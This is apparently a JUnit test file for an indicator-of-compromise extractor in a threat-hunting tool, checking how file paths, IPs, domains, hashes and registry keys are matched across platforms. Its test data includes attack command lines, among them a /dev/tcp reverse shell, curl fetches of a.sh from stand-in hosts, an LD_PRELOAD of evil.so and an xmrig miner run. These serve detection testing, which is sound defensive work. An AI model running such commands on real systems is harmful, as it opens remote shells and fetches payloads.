package io.hunt.command.retrohunt.observable;

import static java.util.stream.Collectors.joining;
import static org.assertj.core.api.Assertions.assertThat;

import io.hunt.api.host.Platform;
import io.hunt.api.id.IndicatorId;
import io.hunt.api.ioc.FrozenIoc;
import io.hunt.api.ioc.IocType;
import io.hunt.api.ioc.Severity;
import io.hunt.command.compiler.FrozenSnapshot;
import java.lang.management.ManagementFactory;
import java.lang.management.ThreadMXBean;
import java.util.Collections;
import java.util.List;
import java.util.Random;
import java.util.Set;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.DisplayNameGeneration;
import org.junit.jupiter.api.DisplayNameGenerator;
import org.junit.jupiter.api.RepeatedTest;
import org.junit.jupiter.api.RepetitionInfo;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.NullSource;

@DisplayNameGeneration(DisplayNameGenerator.ReplaceUnderscores.class)
class ObservableExtractorTest {

    /** Processor time, which does not depend on the load of the machine. */
    private static final ThreadMXBean PROCESSOR = ManagementFactory.getThreadMXBean();

    private static final String ALPHABET = "aA0./\\:~{}\"[],=-_ xéİı\uD83D\uDE00\uD800\u0000";

    @ParameterizedTest
    @CsvSource(
            delimiter = ';',
            value = {
                "LINUX;   path;    /opt/Tool/x;                 FILEPATH; /opt/Tool/x;                  true",
                "LINUX;   path;    /opt/Tool/x;                 FILEPATH; /opt/tool/x;                  false",
                "MACOS;   path;    /opt/Tool/x;                 FILEPATH; /opt/tool/x;                  true",
                "WINDOWS; path;    C:\\Temp\\Evil.EXE;          FILEPATH; c:\\temp\\evil.exe;           true",
                "WINDOWS; path;    C:\\Temp\\Evil.EXE;          FILENAME; evil.exe;                     true",
                "LINUX;   path;    /tmp/Evil;                   FILENAME; Evil;                         true",
                "LINUX;   path;    /tmp/Evil;                   FILENAME; evil;                         false",
                "LINUX;   path;    /tmp/a\\b;                   FILENAME; b;                            false",
                "LINUX;   name;    xmrig;                       FILENAME; xmrig;                        true",
                "LINUX;   name;    XMRig;                       FILENAME; xmrig;                        false",
                "WINDOWS; name;    XMRig;                       FILENAME; xmrig;                        true",
                "LINUX;   user;    root;                        FILENAME; root;                         false",
                "LINUX;   what;    payload.sh;                  FILENAME; payload.sh;                   true",
                "LINUX;   path;    /home/ada/.cache/x;          FILEPATH; ~/.cache/x;                   true",
                "LINUX;   path;    /root/.cache/x;              FILEPATH; $HOME/.cache/x;               true",
                "MACOS;   path;    /Users/ada/Library/x;        FILEPATH; ~/Library/X;                  true",
                "LINUX;   path;    /Users/ada/Library/x;        FILEPATH; ~/Library/x;                  false",
                "LINUX;   remote;  ::ffff:198.51.100.7;         IPV4;     198.51.100.7;                 true",
                "LINUX;   remote;  198.51.100.77;               IPV4;     198.51.100.7;                 false",
                "LINUX;   name;    Evil.Example.org.;           DOMAIN;   evil.example.org;             true",
                "LINUX;   cmdline; curl https://evil.example.org/x; DOMAIN; evil.example.org;           true",
                "LINUX;   cmdline; curl notevil.example.org;    DOMAIN;   evil.example.org;             false",
                "LINUX;   md5;     D41D8CD98F00B204E9800998ECF8427E; MD5; d41d8cd98f00b204e9800998ecf8427e; true",
                "WINDOWS; path;    HKEY_LOCAL_MACHINE\\SOFTWARE\\WOW6432Node\\Evil; REGISTRY; HKEY_LOCAL_MACHINE\\Software\\evil; true",
                "WINDOWS; path;    HKEY_USERS\\S-1-5-21\\Software\\Evil; REGISTRY; HKEY_CURRENT_USER\\Software\\Evil; true",
            })
    void a_value_is_found_by_the_equality_of_its_type(
            Platform platform, String column, String seen, IocType type, String sought, boolean found) {
        assertThat(finds(platform, column, seen, type, sought)).isEqualTo(found);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '¦',
            quoteCharacter = '#',
            value = {
                "LINUX¦   curl http://198.51.100.7:8080/a.sh¦             IPV4¦     198.51.100.7¦           true",
                "LINUX¦   curl http://198.51.100.77/a.sh¦                 IPV4¦     198.51.100.7¦           false",
                "LINUX¦   bash -i >& /dev/tcp/198.51.100.7/443 0>&1¦      IPV4¦     198.51.100.7¦           true",
                "LINUX¦   curl http://198.51.100.7:8080/a.sh¦             FILENAME¦ a.sh¦                   true",
                "LINUX¦   /usr/bin/curl -s https://evil.example.org/x¦    DOMAIN¦   evil.example.org¦       true",
                "LINUX¦   /usr/bin/curl -s https://evil.example.org/x¦    FILEPATH¦ /usr/bin/curl¦          true",
                "LINUX¦   /usr/bin/curl -s https://evil.example.org/x¦    FILEPATH¦ //evil.example.org/x¦   false",
                "LINUX¦   sudo '/opt/My Tools/run'¦                       FILEPATH¦ /opt/My Tools/run¦      true",
                "LINUX¦   /tmp/xmrig -o pool:3333¦                        FILENAME¦ xmrig¦                  true",
                "LINUX¦   xmrig -o pool¦                                  FILENAME¦ xmrig¦                  false",
                "LINUX¦   run the tool. then stop¦                        FILENAME¦ tool¦                   false",
                "LINUX¦   cd tmp/x && ./payload.py;¦                      FILENAME¦ payload.py¦             true",
                "LINUX¦   cat notes/plan.docx.¦                           FILENAME¦ plan.docx¦              true",
                "LINUX¦   cat tmp/x¦                                      FILEPATH¦ /x¦                     false",
                "LINUX¦   LD_PRELOAD=/lib/evil.so:/lib/b.so id¦           FILEPATH¦ /lib/evil.so¦           true",
                "LINUX¦   LD_PRELOAD=/lib/evil.so:/lib/b.so id¦           FILEPATH¦ /lib/b.so¦              true",
                "LINUX¦   rm //opt///Evil/¦                               FILEPATH¦ /opt/Evil¦              false",
                "LINUX¦   rm /opt///Evil/¦                                FILEPATH¦ /opt/Evil¦              true",
                "LINUX¦   rm /opt/Evil¦                                   FILEPATH¦ /opt/evil¦              false",
                "MACOS¦   rm /opt/Evil¦                                   FILEPATH¦ /opt/evil¦              true",
                "LINUX¦   sh ~/.cache/x¦                                  FILEPATH¦ ~/.cache/x¦             true",
                "LINUX¦   sh $HOME/.cache/x¦                              FILEPATH¦ $HOME/.cache/x¦         true",
                "LINUX¦   sh /home/ada/.cache/x¦                          FILEPATH¦ $HOME/.cache/x¦         true",
                "LINUX¦   echo D41D8CD98F00B204E9800998ECF8427E f¦        MD5¦      d41d8cd98f00b204e9800998ecf8427e¦ true",
                "LINUX¦   docker pull a@sha256:{0}¦                       SHA256¦   {0}¦                    true",
                "WINDOWS¦ cmd /c start C:\\Temp\\Evil.EXE -q¦             FILEPATH¦ c:\\temp\\evil.exe¦     true",
                "WINDOWS¦ cmd /c start C:\\Temp\\Evil.EXE -q¦             FILENAME¦ evil.exe¦               true",
                "WINDOWS¦ cmd /c start C:\\Temp\\Evil.EXE -q¦             FILENAME¦ c¦                      false",
                "WINDOWS¦ C:\\Program Files\\My App\\a b.exe -k net¦      FILEPATH¦ C:\\Program Files\\My App\\a b.exe¦ true",
                "WINDOWS¦ C:\\Program Files\\My App\\a b.exe -k net¦      FILENAME¦ a b.exe¦                true",
                "WINDOWS¦ C:\\Program Files\\My App\\a b.exe -k net¦      FILENAME¦ b.exe¦                  false",
                "WINDOWS¦ C:\\Program Files\\My App\\a b.exe -k net¦      FILENAME¦ Program¦                false",
                "WINDOWS¦ rundll32 \\\\srv\\s\\x.dll,Run¦                 FILEPATH¦ \\\\srv\\s\\x.dll¦        true",
                "WINDOWS¦ reg add HKLM\\Software\\Evil /v x¦              REGISTRY¦ HKEY_LOCAL_MACHINE\\Software\\evil¦ true",
                "WINDOWS¦ reg add \"HKCU\\Software\\My App\" /v x¦        REGISTRY¦ HKEY_CURRENT_USER\\Software\\My App¦ true",
            })
    void a_value_is_found_within_a_command(
            Platform platform, String command, IocType type, String sought, boolean found) {
        String digest = "ab".repeat(32);
        assertThat(finds(platform, "command", command.replace("{0}", digest), type, sought.replace("{0}", digest)))
                .isEqualTo(found);
    }

    @Test
    void blanks_within_a_path_separate_no_words() {
        assertThat(finds(Platform.LINUX, "path", "/home/ada/My Files/x y.pdf", IocType.FILENAME, "x y.pdf"))
                .isTrue();
        assertThat(finds(Platform.LINUX, "path", "/home/ada/My Files/x y.pdf", IocType.FILENAME, "y.pdf"))
                .isFalse();
        assertThat(finds(Platform.LINUX, "path", "/home/ada/My Files/x y.pdf", IocType.FILENAME, "My"))
                .isFalse();
    }

    @Test
    void the_values_of_columns_come_before_those_within_texts() {
        String many = IntStream.range(0, 400).mapToObj(i -> "/f" + i).collect(joining(" "));
        var row = List.of(new RowValues.Value("command", many), new RowValues.Value("remote", "198.51.100.7"));

        assertThat(ObservableExtractor.of(Platform.LINUX, row))
                .hasSize(256)
                .containsAll(ObservableExtractor.of(IocType.IPV4, "198.51.100.7"));
    }

    @Test
    void the_beginning_of_a_long_text_is_read_up_to_a_whole_word() {
        String text = "/first " + "x ".repeat(2_043) + "evil.example.org";
        assertThat(RowValues.of("{\"command\": \"" + text + "\"}"))
                .containsExactly(new RowValues.Value("command", text.substring(0, text.lastIndexOf(' '))));
    }

    @Test
    void of_a_host_nobody_knows_case_matters_unless_the_path_is_one_of_windows() {
        assertThat(finds(null, "path", "/tmp/Evil", IocType.FILENAME, "evil")).isFalse();
        assertThat(finds(null, "path", "C:\\Evil.exe", IocType.FILENAME, "evil.exe"))
                .isTrue();
    }

    @ParameterizedTest
    @EnumSource(Platform.class)
    void what_a_hunt_would_match_is_found_and_nothing_else(Platform platform) {
        List<String> values = List.of(
                "/opt/Tool",
                "/opt/tool",
                "C:\\A\\B.exe",
                "c:\\a\\b.exe",
                "\\\\srv\\s\\x.exe",
                "HKEY_LOCAL_MACHINE\\Software\\X",
                "HKEY_LOCAL_MACHINE\\SOFTWARE\\Wow6432Node\\X",
                "HKEY_USERS\\S-1\\X",
                "HKEY_CURRENT_USER\\X");
        for (IocType type : Set.of(IocType.FILEPATH, IocType.REGISTRY)) {
            for (String sought : values) {
                for (String seen : values) {
                    boolean path = !seen.startsWith("HKEY");
                    if (path != (type == IocType.FILEPATH)) {
                        continue;
                    }
                    var snapshot = new FrozenSnapshot();
                    snapshot.add(List.of(new FrozenIoc(IndicatorId.random(), type, sought, Severity.LOW)));
                    assertThat(finds(platform, "path", seen, type, sought))
                            .as("%s %s in %s", type, sought, seen)
                            .isEqualTo(!snapshot.find(type, platform, seen).isEmpty());
                }
            }
        }
    }

    @RepeatedTest(20)
    void any_text_is_survived_and_bounded(RepetitionInfo repetition) {
        var random = new Random(repetition.getCurrentRepetition());
        for (int i = 0; i < 500; i++) {
            String text = text(random, random.nextInt(200));
            assertThat(RowValues.of(text)).hasSizeLessThanOrEqualTo(128);
            var values = List.of(new RowValues.Value(text(random, 3), text));
            Stream.of(Platform.LINUX, Platform.WINDOWS)
                    .forEach(platform ->
                            assertThat(ObservableExtractor.of(platform, values)).hasSizeLessThanOrEqualTo(256));
        }
    }

    @ParameterizedTest
    @NullSource
    @EnumSource(Platform.class)
    void the_largest_and_strangest_values_take_no_time(@Nullable Platform platform) {
        long start = PROCESSOR.getCurrentThreadCpuTime();
        for (String unit :
                List.of("a.", "1.", "/", "\\", "..", "a-", "0", "HKEY_", "::ffff:", "a b", ". ", "_", "/home/")) {
            String longest = unit.repeat(4_096 / unit.length());
            for (int i = 0; i < 20; i++) {
                ObservableExtractor.of(platform, List.of(new RowValues.Value("name", longest)));
                ObservableExtractor.of(platform, List.of(new RowValues.Value("name", "/" + longest)));
                ObservableExtractor.of(platform, List.of(new RowValues.Value("name", "C:\\" + longest)));
            }
        }
        assertThat(PROCESSOR.getCurrentThreadCpuTime() - start).isLessThan(5_000_000_000L);
    }

    @Test
    void a_row_gives_its_texts_within_bounds_and_what_stands_before_damage() {
        String longest = "x".repeat(4_096);
        assertThat(RowValues.of("""
                {"a": "1", "n": 7, "o": {"a": "2"}, "l": ["3"], "e": "", "long": "%s", "longer": "%sx", "z": "4",""".formatted(longest, longest)))
                .extracting(RowValues.Value::column)
                .containsExactly("a", "long", "z");
        String faces = "\uD83D\uDE00".repeat(4_096);
        assertThat(RowValues.of("{\"f\": \"%s\", \"g\": \"%sx\"}".formatted(faces, faces)))
                .extracting(RowValues.Value::column)
                .containsExactly("f");
        String many = String.join(",", Collections.nCopies(1_000, "\"c\": \"v\""));
        assertThat(RowValues.of("{" + many + "}")).hasSize(128);
        assertThat(RowValues.of("[".repeat(100_000))).isEmpty();
        assertThat(RowValues.of("{\"a\":" + "[".repeat(100_000))).isEmpty();
    }

    private static boolean finds(@Nullable Platform platform, String column, String seen, IocType type, String sought) {
        return !Collections.disjoint(
                ObservableExtractor.of(platform, List.of(new RowValues.Value(column, seen))),
                ObservableExtractor.of(type, sought));
    }

    private static String text(Random random, int length) {
        var text = new StringBuilder();
        for (int i = 0; i < length; i++) {
            text.append(ALPHABET.charAt(random.nextInt(ALPHABET.length())));
        }
        return text.toString();
    }
}
